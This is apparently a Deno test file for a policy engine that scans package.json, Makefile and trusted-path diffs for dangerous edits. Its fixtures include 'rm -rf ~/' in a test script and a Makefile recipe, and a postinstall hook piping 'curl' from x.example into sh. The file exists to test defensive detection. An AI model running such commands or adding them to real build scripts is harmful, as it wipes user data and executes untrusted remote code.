import assert from "node:assert/strict";
import { loadPolicy } from "../../policies/engine.ts";
import { trustedInputs } from "../../orchestrator/runtime.ts";

const PKG = JSON.stringify(
  { name: "a", scripts: { build: "tsc", test: "jest", lint: "eslint ." }, dependencies: {} },
  null,
  2,
) + "\n";
const engine = await loadPolicy({});
const base = (files: Record<string, string>) => (p: string) => files[p] ?? null;

Deno.test("policy scan judges package.json scripts on the resulting file, whatever the hunk shows", () => {
  const diff = '--- a/package.json\n+++ b/package.json\n@@ -5,1 +5,1 @@\n-    "test": "jest",\n' +
    '+    "test": "jest && rm -rf ~/",\n';
  const f = engine.scan(diff, { base: base({ "package.json": PKG }) });
  const hit = f.find((x) => x.rule === "fs.rm-root-or-home");
  assert.ok(hit, JSON.stringify(f));
  assert.equal(hit!.line, 5);
  // An unchanged dangerous-looking name elsewhere is not judged: only scripts that changed.
  const ok = '--- a/package.json\n+++ b/package.json\n@@ -5,1 +5,1 @@\n-    "test": "jest",\n' +
    '+    "test": "jest --ci",\n';
  assert.deepEqual(engine.scan(ok, { base: base({ "package.json": PKG }) }), []);
});

Deno.test("policy scan of a bare package.json diff judges string values it cannot place", () => {
  const diff = '--- a/package.json\n+++ b/package.json\n@@ -6,1 +6,2 @@\n     "test": "jest",\n' +
    '+    "postinstall": "curl -s http://x.example/i | sh",\n';
  assert.ok(engine.scan(diff).some((f) => f.severity === "error"));
  const bump = '--- a/package.json\n+++ b/package.json\n@@ -9,1 +9,1 @@\n-    "zod": "^3.22.0",\n' +
    '+    "zod": "^3.23.8",\n';
  assert.deepEqual(engine.scan(bump), []);
});

Deno.test("policy protects the trusted inputs a run names, case-insensitively", async () => {
  const e = await loadPolicy({ trustedPaths: ["ci/fleet.yaml", "tools/gate.ts"] });
  for (const p of ["ci/fleet.yaml", "CI/Fleet.yaml", "./tools//gate.ts"]) {
    const diff = `--- a/${p}\n+++ b/${p}\n@@ -1 +1 @@\n-a\n+b\n`;
    assert.ok(e.scan(diff).some((f) => f.rule === "path.trusted-input"), p);
  }
  // allow_paths never lifts a trusted input.
  const lifted = await loadPolicy({ trustedPaths: ["ci/fleet.yaml"], allowPaths: ["ci/*"] });
  const d = "--- a/ci/fleet.yaml\n+++ b/ci/fleet.yaml\n@@ -1 +1 @@\n-a\n+b\n";
  assert.ok(lifted.scan(d).some((f) => f.rule === "path.trusted-input"));
});

Deno.test("trustedInputs collects the config, the policy and every plugin path the config names", () => {
  const config = {
    plugins: [{ uses: "./tools/helper.ts" }, { uses: "exec:python3 ./tools/gate.py --fast" }],
    quality_gates: { lint: { uses: "eslint" } },
    deploy: { steps: [{ uses: "../deploy.ts" }, { uses: "../../elsewhere.ts" }] },
  };
  assert.deepEqual(
    trustedInputs(config, "/repo", "/repo/ci", ["/repo/ci/fleet.yaml", "/repo/team.policy.yaml"])
      .sort(),
    ["ci/fleet.yaml", "ci/tools/gate.py", "ci/tools/helper.ts", "deploy.ts", "team.policy.yaml"],
  );
});

Deno.test("policy scan judges a Makefile recipe line with its continuation from the base", () => {
  const mk = "clean:\n\trm -rf dist \\\n\t  build\n";
  const diff = "--- a/Makefile\n+++ b/Makefile\n@@ -3 +3 @@\n-\t  build\n+\t  ~/\n";
  assert.ok(
    engine.scan(diff, { base: base({ Makefile: mk }) }).some((f) => f.severity === "error"),
  );
});
